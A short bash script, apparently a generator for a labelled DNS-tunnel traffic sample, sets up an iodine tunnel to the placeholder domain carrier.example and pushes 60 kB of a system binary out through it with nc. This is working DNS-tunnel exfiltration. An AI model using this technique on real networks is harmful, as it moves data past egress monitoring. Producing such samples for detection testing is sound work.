#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=tune tool=iodine,nc far=out seconds=30
# iodine carries IP in names and answers, by way of the resolver of the site: 60 kB are put outside over it.
if [ "$1" = out ]; then timeout 60 iodined -f -c -P nwlab -l 203.0.113.66 10.99.1.1/24 carrier.example & sleep 2; exec timeout 58 socat -u TCP-LISTEN:8080,fork,reuseaddr /dev/null; fi
timeout 28 iodine -f -r -P nwlab 10.30.0.53 carrier.example >/dev/null 2>&1 &
sleep 6
(head -c 60000 /usr/bin/openssl; sleep 2) | timeout 18 nc -N 10.99.1.1 8080 >/dev/null
wait; true
